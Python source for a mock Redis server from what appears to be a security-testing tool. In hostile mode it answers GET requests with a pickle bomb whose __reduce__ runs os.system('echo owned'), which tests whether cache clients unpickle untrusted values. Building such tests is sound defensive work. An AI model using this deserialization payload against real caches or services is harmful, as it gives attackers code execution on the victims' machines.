"""A Redis that, once hostile, returns a pickle that runs a program when it is loaded.

Caches of pickles (Django's, Flask-Caching's, custom ones) load any value that the server returns.
"""

import os
import pickle

from backwatch.attack.protocols.server import LARGEST, MOST_KEPT, HostileServer, Session

COMMAND = "echo owned"
"""Command of the pickle; nothing here ever loads it."""


class _Bomb:
    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self._command,)  # pyright: ignore[reportDeprecated]  real pickle bombs use it


class Redis(HostileServer):
    """Stores sessions; once hostile, returns a pickle bomb."""

    name = "redis"
    attack = "returns a pickle that would run a program"
    reference = "https://docs.python.org/3/library/pickle.html; ATT&CK T1059.006"
    driver = "redis"
    rule = "hostile-payload"

    command = COMMAND
    """Command of the pickle."""

    def serve(self, session: Session) -> None:
        """Serve TLS from the first byte, then commands."""
        session.secure()
        kept: dict[bytes, bytes] = {}
        three = False
        while True:
            command = self.received(session)
            verb = command[0].upper() if command else b""
            if verb == b"HELLO":
                three = len(command) > 1 and command[1] == b"3"
                session.send(self.hello(three=three))
            elif verb == b"GET" and len(command) > 1:
                value = pickle.dumps(_Bomb(self.command)) if self.hostile else kept.get(command[1])
                session.send((b"_\r\n" if three else b"$-1\r\n") if value is None else bulk(value))
            elif verb in (b"SET", b"SETEX") and len(command) > 2:
                if len(kept) >= MOST_KEPT:
                    kept.clear()
                kept[command[1]] = command[-1] if verb == b"SETEX" else command[2]
                session.send(b"+OK\r\n")
            elif verb == b"PING":
                session.send(b"+PONG\r\n")
            else:
                session.send(b"+OK\r\n")

    @staticmethod
    def hello(*, three: bool) -> bytes:
        """Return the reply to HELLO, in RESP3 or RESP2."""
        facts = ((b"server", b"redis"), (b"version", b"7.2.11"), (b"role", b"master"))
        head = b"%%%d\r\n" % (len(facts) + 1) if three else b"*%d\r\n" % (2 * len(facts) + 2)
        return (
            head
            + b"".join(bulk(name) + bulk(value) for name, value in facts)
            + bulk(b"proto")
            + (b":3\r\n" if three else b":2\r\n")
        )

    @staticmethod
    def received(session: Session) -> list[bytes]:
        """Return the next command and its arguments."""
        head = session.line()
        if not head.startswith(b"*"):
            return head.split()
        parts: list[bytes] = []
        count, size = int(head[1:]), 0
        for _ in range(count):
            length = int(session.line()[1:])
            size += length
            if count > MOST_KEPT or size > LARGEST:
                raise ValueError("a command of that size is no driver's")
            parts.append(session.read(length))
            session.read(2)
        return parts


def bulk(value: bytes) -> bytes:
    """Return a value as a RESP bulk string."""
    return b"$%d\r\n%s\r\n" % (len(value), value)
